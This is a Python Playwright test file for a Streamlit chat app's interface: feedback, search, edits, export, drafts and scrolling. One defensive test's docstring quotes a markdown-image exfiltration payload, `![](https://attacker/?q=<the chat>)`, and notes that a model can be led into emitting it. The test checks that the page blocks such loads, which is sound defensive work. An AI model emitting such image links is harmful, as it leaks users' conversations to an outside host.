"""The chat's UX in a real headless Chromium: feedback, copy, search, settings, edits,
export, images kept inside the page, a phone's sidebar."""

from __future__ import annotations

import re
import sqlite3
from urllib.parse import parse_qs, urlparse
from pathlib import Path

from playwright.sync_api import TimeoutError as PlaywrightTimeoutError, expect

from tests.browser import (
    WAIT_MS, address, expect_only_the_question_and_its_live_reply,
    messages, moved_from, open_expander, page_state, send, send_new_version, shot, wait_for_reply,
    wait_until_drawn, wait_until_idle,
)
from tests.servers import start_app, stop_app


def test_feedback_persists_across_a_reload_and_reaches_the_stats(server, new_page):
    page = new_page(server.url)
    send(page, "what is 6*7")
    wait_for_reply(page, 1, "6*7 = 42")
    before = server.get_json("/api/stats.json")["feedback"]
    reply = messages(page).nth(1)
    reply.get_by_role("radio", name="Thumbs up").click()
    # copy and comment; Streamlit may keep hidden copies of a page's earlier popovers
    expect(reply.get_by_test_id("stPopoverButton").filter(visible=True)).to_have_count(
        2, timeout=WAIT_MS)
    reply.get_by_test_id("stPopoverButton").filter(visible=True).nth(1).click()
    popover = page.get_by_test_id("stPopoverBody").filter(visible=True)
    popover.get_by_label("Comment (optional)").fill("Spot on")
    popover.get_by_role("button", name="Save comment").click()
    expect(page.get_by_test_id("stToast")).to_contain_text("Comment saved.",
                                                          timeout=WAIT_MS)  # said so
    page.reload()
    thumbs = messages(page).nth(1).get_by_role("radio", name="Thumbs up")
    expect(thumbs).to_have_attribute("aria-checked", "true", timeout=WAIT_MS)
    with sqlite3.connect(server.database) as db:
        assert ("Spot on",) in db.execute("SELECT comment FROM feedback").fetchall()
    after = server.get_json("/api/stats.json")["feedback"]
    up = lambda rows: sum(r["up"] for r in rows)  # noqa: E731
    assert up(after) == up(before) + 1


def test_a_thumb_given_while_another_reply_streams_is_drawn_once(server, new_page):
    """The thumb's click runs the page again while the next reply streams: one pair of
    thumbs, turned, and no stale second pair beside it until the reply ends."""
    page = new_page(server.url)
    send(page, "what is 6*7")
    wait_for_reply(page, 1, "6*7 = 42")
    send(page, "Tell me about yourself")
    expect(messages(page).nth(3)).to_contain_text("offline", timeout=WAIT_MS)
    first = messages(page).nth(1)
    first.get_by_role("radio", name="Thumbs up").click()
    expect(first.get_by_test_id("stPopoverButton").filter(visible=True)  # copy, comment:
           ).to_have_count(2, timeout=WAIT_MS)  # the reply drawn again
    # still streaming, one Stop (once, under a loaded CI, a second one stood for a moment
    # while the page was drawn again: a lasting one fails here)
    expect(page.get_by_role("button", name="Stop")).to_have_count(1, timeout=WAIT_MS)
    expect(first.get_by_role("radio", name="Thumbs up")).to_have_count(1)
    expect(first.get_by_role("radio", name="Thumbs up")).to_have_attribute(
        "aria-checked", "true")
    shot(page, "thumb-while-streaming")


def test_copy_puts_the_reply_on_the_clipboard(server, browser):
    context = browser.new_context(viewport={"width": 1280, "height": 900},
                                  permissions=["clipboard-read", "clipboard-write"])
    try:
        page = context.new_page()
        page.goto(server.url)
        send(page, "what is 3+4")
        wait_for_reply(page, 1, "3+4 = 7")
        messages(page).nth(1).get_by_test_id("stPopoverButton").first.click()
        code = page.get_by_test_id("stPopoverBody").get_by_test_id("stCode")
        code.hover()
        code.get_by_role("button", name="Copy to clipboard").click()
        assert page.evaluate("navigator.clipboard.readText()") == "3+4 = 7"
    finally:
        context.close()


def test_search_finds_a_conversation_by_a_word_inside_a_message(server, new_page):
    page = new_page(server.url)
    send(page, "My name is Quentin.")
    wait_for_reply(page, 1, "Nice to meet you")
    send(page, "what is 2+2")
    wait_for_reply(page, 3, "2+2 = 4")
    page.get_by_role("button", name="New chat").click()
    expect(messages(page)).to_have_count(0, timeout=WAIT_MS)
    send(page, "what is 9*9")
    wait_for_reply(page, 1, "9*9 = 81")
    sidebar = page.get_by_test_id("stSidebar")
    expect(sidebar).to_contain_text("Today")
    box = sidebar.get_by_placeholder("Search conversations")
    box.fill("quentin")
    box.press("Enter")
    expect(sidebar.get_by_role("button", name="My name is Quentin.")).to_be_visible(
        timeout=WAIT_MS)
    expect(sidebar.get_by_role("button", name="what is 9*9")).to_have_count(0)
    shot(page, "search")


def test_settings_before_the_first_message_still_give_the_chat_a_title(unsynced_server,
                                                                       new_page):
    page = new_page(unsynced_server.url)
    sidebar = page.get_by_test_id("stSidebar")
    open_expander(sidebar, "Agent settings")
    sidebar.get_by_label("System prompt").fill("Be brief.")
    sidebar.get_by_role("button", name="Use these settings").click()
    try:  # if it comes back: say what the page held
        expect(page.locator("main")).to_contain_text("custom agent", timeout=WAIT_MS)
    except AssertionError as failure:
        held = (address(page), sidebar.get_by_label("System prompt").input_value(),
                sidebar.get_by_text("This chat uses").all_inner_texts())
        raise AssertionError(f"no custom agent; address, prompt, caption: {held}") from failure
    send(page, "My name is Lisbon")
    wait_for_reply(page, 1, "Nice to meet you, Lisbon")
    expect(page.get_by_role("heading", name="My name is Lisbon")).to_be_visible()
    expect(sidebar.get_by_role("button", name="My name is Lisbon")).to_be_visible()
    page.get_by_role("button", name="Reset to shared agent").first.click()
    expect(page.locator("main")).to_contain_text("shared pool", timeout=WAIT_MS)


def test_a_refused_message_stays_in_the_box_to_edit(tmp_path, browser):
    server = start_app(tmp_path, MAX_MESSAGE_CHARS="20")
    context = browser.new_context(viewport={"width": 390, "height": 844})
    try:
        page = context.new_page()
        page.goto(server.url)
        send(page, "what is 1+1")
        wait_for_reply(page, 1, "1+1 = 2")
        send(page, "This message is far too long for the limit")
        expect(page.get_by_text("The message is too long")).to_be_visible(timeout=WAIT_MS)
        box = page.get_by_test_id("stChatInputTextArea")
        expect(box).to_have_value("This message is far too long for the limit")
        shot(page, "refused-mobile")
        for _ in range(2):  # sent again as it is: refused again, and again given back
            box.press("Enter")
            expect(box).to_have_value(re.compile(r"^This message is far too long for the "
                                                 r"limit ?$"), timeout=WAIT_MS)
    finally:
        context.close()
        stop_app(server)


def test_editing_a_message_forks_the_chat_and_the_switcher_keeps_the_branch(server,
                                                                          new_page):
    page = new_page(server.url)
    send(page, "My name is Ada.")
    wait_for_reply(page, 1, "Nice to meet you, Ada")
    send_new_version(page, 0, "My name is Grace.")
    wait_for_reply(page, 1, "Nice to meet you, Grace")
    expect(messages(page).nth(0)).to_contain_text("2 / 2", timeout=WAIT_MS)
    shot(page, "edited")
    messages(page).nth(0).get_by_role("button", name="chevron_left").click()
    expect(messages(page).nth(1)).to_contain_text("Nice to meet you, Ada", timeout=WAIT_MS)
    expect(messages(page).nth(0)).to_contain_text("1 / 2")
    page.reload()
    expect(messages(page).nth(0)).to_contain_text("My name is Ada.", timeout=WAIT_MS)
    expect(messages(page).nth(0)).to_contain_text("1 / 2")
    send(page, "What is my name?")
    wait_for_reply(page, 3, "Your name is Ada.")


def test_an_edit_in_a_long_chat_leaves_no_editor_open_on_another_message(server,
                                                                           new_page):
    """The page shows the latest messages; an edit moves that window to the new branch,
    and another message comes to the edited one's place: its editor must not be open."""
    from langchain_core.messages import AIMessage, HumanMessage

    from core.limits import SHOWN_MESSAGES
    from core.store import SessionStore

    page = new_page(server.url)
    send(page, "hello first")
    wait_for_reply(page, 1, "offline")
    chat = parse_qs(urlparse(address(page)).query)["session"][0]
    store = SessionStore(f"sqlite:///{server.database}")
    for i in range(SHOWN_MESSAGES // 2 + 10):
        store.append_messages(chat, [HumanMessage(f"q{i}"), AIMessage(f"a{i}")])
    store.close()
    page.reload()
    first = messages(page).nth(0)
    expect(first).to_contain_text("q10", timeout=WAIT_MS)
    wait_until_drawn(page)  # (under load the editor opened mid-draw was left off screen)
    first.get_by_role("button", name="edit").click()
    editor = page.get_by_test_id("stPopoverBody").filter(visible=True)
    editor.get_by_label("Edit your message").fill("q10, asked again")
    # from the keyboard (Tab to the button, Enter), as a person can: under a full suite's
    # load the open editor was twice left outside the viewport, where Playwright would
    # not click; what is tested is the window after the edit
    page.keyboard.press("Tab")
    expect(editor.get_by_role("button", name="Send the new version")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_text("q10, asked again")).to_be_visible(timeout=WAIT_MS)
    wait_until_idle(page)
    expect(page.get_by_test_id("stPopoverBody").filter(visible=True)).to_have_count(0)
    shot(page, "long-chat-after-edit")


def test_a_reply_to_an_edit_shows_nothing_of_the_branch_left(server, new_page):
    page = new_page(server.url)
    send(page, "My name is Ada.")
    wait_for_reply(page, 1, "Nice to meet you, Ada")
    send(page, "what is 2+2")
    wait_for_reply(page, 3, "2+2 = 4")
    send_new_version(page, 0, "Tell me about yourself")
    # the branch left had more bubbles; Streamlit kept its buttons in sight, inside the
    # live bubble too, for as long as the page run lasted: the whole reply
    expect_only_the_question_and_its_live_reply(page)
    expect(page.get_by_role("button", name="Stop")).to_be_visible()  # still mid-reply
    shot(page, "edited-mid-reply")
    wait_for_reply(page, 1, "remember your name")
    expect(messages(page).nth(0)).to_contain_text("2 / 2")
    expect(page.get_by_role("button", name="Regenerate")).to_have_count(1)


def test_an_image_in_a_reply_is_not_fetched_from_outside(server, new_page):
    """A reply can be made to embed ``![](https://attacker/?q=<the chat>)``: the page
    must not fetch it (the offline model quotes the user, a real model can be led to)."""
    import http.server
    import threading

    hits: list[str] = []

    class Pixel(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    outside = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Pixel)
    threading.Thread(target=outside.serve_forever, daemon=True).start()
    try:
        page = new_page(server.url)
        page.evaluate("window.blocked = []; document.addEventListener("
                      "'securitypolicyviolation', e => window.blocked.push(e.blockedURI))")
        url = f"http://127.0.0.1:{outside.server_address[1]}/pixel.png?q=secret"
        send(page, f"![pixel]({url})")
        wait_for_reply(page, 1, "offline")
        send(page, "what did I say?")
        wait_for_reply(page, 3, "Earlier you said")
        image = messages(page).nth(3).locator("img")
        expect(image).to_have_count(1, timeout=WAIT_MS)  # drawn, as Markdown does
        page.wait_for_function("() => window.blocked.some(u => u.includes('pixel.png'))",
                               timeout=WAIT_MS)  # its load was tried, and refused
        assert hits == []
    finally:
        outside.shutdown()
        outside.server_close()


def test_export_waits_for_the_reply_being_written_then_holds_it(server, new_page):
    """The page's rows are those of its run's start: an export made mid-reply would hold
    an empty reply for the whole of the reply."""
    page = new_page(server.url)
    send(page, "Tell me about yourself")
    expect(page.get_by_role("button", name="Stop")).to_be_visible(timeout=WAIT_MS)
    sidebar = page.get_by_test_id("stSidebar")
    open_expander(sidebar, "This conversation")
    export = sidebar.get_by_role("button", name="Export Markdown")
    expect(export).to_be_disabled()
    wait_for_reply(page, 1, "restart")
    expect(export).to_be_enabled(timeout=WAIT_MS)
    with page.expect_download(timeout=WAIT_MS) as download:
        export.click()
    text = Path(download.value.path()).read_text()
    assert text.rstrip().endswith("and restart.") and "partial reply" not in text


def test_on_a_phone_the_sidebar_closes_once_a_chat_is_chosen(server, browser):
    """It covers the chat there: after New chat or a chat picked from the list, the chat
    is what the person wants to see. On a wide screen it stays open."""
    phone = browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True,
                                has_touch=True)
    wide = browser.new_context(viewport={"width": 1280, "height": 900})
    try:
        page = phone.new_page()
        page.goto(server.url)
        send(page, "what is 12*7?")
        wait_for_reply(page, 1, "84")
        sidebar = page.get_by_test_id("stSidebar")
        for choose in ("New chat", "what is 12*7?"):
            page.get_by_test_id("stExpandSidebarButton").click()
            expect(sidebar).to_have_attribute("data-collapsed", "false")
            sidebar.get_by_role("button", name=choose).click()
            expect(sidebar).to_have_attribute("data-collapsed", "true", timeout=WAIT_MS)
        expect(messages(page).nth(1)).to_contain_text("84")  # the chat picked
        desk = wide.new_page()
        desk.goto(server.url)
        expect(desk.get_by_test_id("stChatInputTextArea")).to_be_visible(timeout=WAIT_MS)
        before = address(desk)
        desk.get_by_test_id("stSidebar").get_by_role("button", name="New chat").click()
        moved_from(desk, before)  # the new chat is open
        expect(desk.get_by_test_id("stSidebar")).to_have_attribute("data-collapsed", "false")
    finally:
        phone.close()
        wide.close()


def test_each_chat_keeps_its_own_draft_across_switches_and_a_reload(server, new_page):
    """Streamlit has one chat box for every chat: a draft typed in one went along to the
    next chat opened. Each chat now has its own, back when the chat is opened again or
    the page reloaded, and gone once sent."""
    page = new_page(server.url)
    send(page, "what is 1+1")
    wait_for_reply(page, 1, "1+1 = 2")
    first = address(page)
    box = page.get_by_test_id("stChatInputTextArea")
    box.fill("a draft for the first chat")
    page.get_by_role("button", name="New chat").click()
    moved_from(page, first)
    expect(box).to_have_value("", timeout=WAIT_MS)  # not the first chat's draft
    box.fill("a draft for the new chat")
    second = address(page)
    page.get_by_test_id("stSidebar").get_by_role("button", name="what is 1+1").click()
    moved_from(page, second)
    expect(box).to_have_value("a draft for the first chat", timeout=WAIT_MS)
    shot(page, "draft-back-in-its-chat")
    page.reload()
    expect(box).to_have_value("a draft for the first chat", timeout=WAIT_MS)
    page.get_by_role("link", name="Stats").click()  # the box is drawn anew on the way back
    expect(page.get_by_text("PoolChat stats")).to_be_visible(timeout=WAIT_MS)
    page.get_by_role("link", name="Chat").click()
    expect(box).to_have_value("a draft for the first chat", timeout=WAIT_MS)
    wait_until_idle(page)
    box.press("Enter")
    expect(messages(page).nth(2)).to_contain_text("a draft for the first chat",
                                                  timeout=WAIT_MS)
    wait_until_idle(page)
    page.goto(second)
    expect(box).to_have_value("a draft for the new chat", timeout=WAIT_MS)
    page.goto(first)
    expect(messages(page).nth(2)).to_contain_text("a draft for the first chat",
                                                  timeout=WAIT_MS)
    drafts = page.evaluate("JSON.parse(localStorage.getItem('poolchat-drafts'))")
    chat = lambda url: parse_qs(urlparse(url).query)["session"][0]  # noqa: E731
    assert drafts == {chat(second): "a draft for the new chat"}  # the sent one is gone
    expect(box).to_have_value("")


def test_the_chat_follows_each_reply_and_reading_back_mid_reply_stays_put(server,
                                                                            browser):
    """Each reply ends in view (Streamlit's own following lost it now and then). Scrolled
    up while a reply streams, the person is no longer pulled down at every word, is told
    a reply is being written below and gets back to it in one click; from there, or
    after sending from up there, the view follows the reply again."""
    context = browser.new_context(viewport={"width": 1100, "height": 600})
    view = '[data-testid="stAppScrollToBottomContainer"]'
    at_bottom = ("view => { const v = document.querySelector(view); "
                 "return v.scrollHeight - v.clientHeight - v.scrollTop < 2; }")

    def below(page) -> float:  # pixels of the chat under the view
        return page.eval_on_selector(
            view, "v => v.scrollHeight - v.clientHeight - v.scrollTop")

    try:
        page = context.new_page()
        page.goto(server.url)
        jump = page.get_by_role("button", name="Jump to the latest message")
        for i in range(4):
            send(page, f"what is {i + 2}*7?")
            wait_for_reply(page, 2 * i + 1, f"= {(i + 2) * 7}")
            wait_until_drawn(page)
            try:  # the view follows the last words as they are drawn
                page.wait_for_function(at_bottom, arg=view, timeout=WAIT_MS)
            except PlaywrightTimeoutError:
                raise AssertionError(f"reply {i + 1} ended {below(page)} px out of view")
            expect(messages(page).nth(2 * i + 1)).to_be_in_viewport()
            expect(jump).to_be_hidden()  # at the bottom: nothing to jump to
        page.mouse.move(900, 300)
        page.mouse.wheel(0, -5000)  # up to the first message, to read it
        expect(jump).to_have_text("↓ Latest", timeout=WAIT_MS)  # left there: no growth
        assert below(page) > 160
        jump.click()
        page.wait_for_function(at_bottom, arg=view, timeout=WAIT_MS)
        send(page, "Tell me a long story")
        page.mouse.move(900, 300)
        page.mouse.wheel(0, -5000)  # back up to the top at once, as the reply starts
        reply = messages(page).nth(9)
        expect(jump).to_have_text("↓ A reply is being written", timeout=WAIT_MS)
        expect(reply).to_contain_text("remember your name", timeout=WAIT_MS)
        assert below(page) > 1000  # words came meanwhile: the reader was left where it was
        shot(page, "reading-back-mid-reply")
        jump.click()
        expect(jump).to_be_hidden()
        page.wait_for_function(at_bottom, arg=view, timeout=WAIT_MS)
        wait_until_idle(page)  # the reply grew to its end meanwhile...
        wait_until_drawn(page)
        assert below(page) < 2  # ...followed down to its last line
        expect(reply).to_contain_text("and restart.")
        page.mouse.wheel(0, -5000)
        expect(jump).to_have_text("↓ Latest", timeout=WAIT_MS)  # nothing being written
        jump.click()
        page.wait_for_function(at_bottom, arg=view, timeout=WAIT_MS)
        page.eval_on_selector(view, "v => { v.scrollTop -= 700; }")  # as Streamlit's own
        assert below(page) < 2  # animation, begun up there, went on: it is not followed
        page.mouse.wheel(0, -100)  # a notch up is held too, and said, however near
        page.wait_for_function(f"() => {{ const v = document.querySelector('{view}'); "
                               "const left = v.scrollHeight - v.clientHeight - v.scrollTop;"
                               " return left > 2; }", timeout=WAIT_MS)
        assert below(page) < 160  # nearer than the button shows for an unheld view
        expect(jump).to_have_text("↓ Latest", timeout=WAIT_MS)
        send(page, "what is 9*7?")  # sent from up there: its reply is followed
        wait_for_reply(page, 11, "= 63")
        page.wait_for_function(at_bottom, arg=view, timeout=WAIT_MS)
        expect(jump).to_be_hidden()
        page.get_by_test_id("stSidebarNav").get_by_text("Stats").click()
        expect(page.get_by_text("Pool members, live")).to_be_visible(timeout=WAIT_MS)
        expect(jump).to_be_hidden()  # no chat on the stats page
    finally:
        context.close()


def test_earlier_messages_come_above_and_the_reader_keeps_their_place(server, new_page):
    """"Show earlier messages" at the top of a long chat: the message the person was at
    stays where it was, the earlier ones above it (the view stayed at the top, now of
    the earlier ones, the place thousands of pixels away)."""
    from langchain_core.messages import AIMessage, HumanMessage

    from core.store import SessionStore

    page = new_page(server.url)
    send(page, "what is 2*7?")
    wait_for_reply(page, 1, "= 14")
    chat = parse_qs(urlparse(address(page)).query)["session"][0]
    store = SessionStore(f"sqlite:///{server.database}")  # another writer, as a replica
    store.append_messages(chat, [m for i in range(110) for m in (
        HumanMessage(f"filler question {i}"), AIMessage(f"filler answer {i}"))])
    store.engine.dispose()
    page.reload()
    earlier = page.get_by_role("button", name="Show earlier messages")
    expect(earlier).to_be_attached(timeout=WAIT_MS)
    wait_until_drawn(page)
    page.mouse.move(900, 300)
    while page.eval_on_selector('[data-testid="stAppScrollToBottomContainer"]',
                                "v => v.scrollTop") > 0:
        page.mouse.wheel(0, -20000)  # up to the top, as a person reads back
    first = messages(page).first
    expect(first).to_contain_text("filler question 10")  # the 200 latest are shown
    at = first.bounding_box()["y"]
    earlier.click()
    try:
        expect(messages(page)).to_have_count(222, timeout=WAIT_MS)
    except AssertionError as failure:  # once, under a doubly loaded CI: none at all
        shot(page, "earlier-messages-missing")
        raise AssertionError(f"{failure}; {page_state(page)}; the page says: "
                             f"{page.inner_text('body')[:300]!r}") from failure
    wait_until_drawn(page)
    place = messages(page).nth(22)  # the same message, 22 earlier ones above it
    expect(place).to_contain_text("filler question 10")
    expect(place).to_be_in_viewport()
    assert abs(place.bounding_box()["y"] - at) < 40
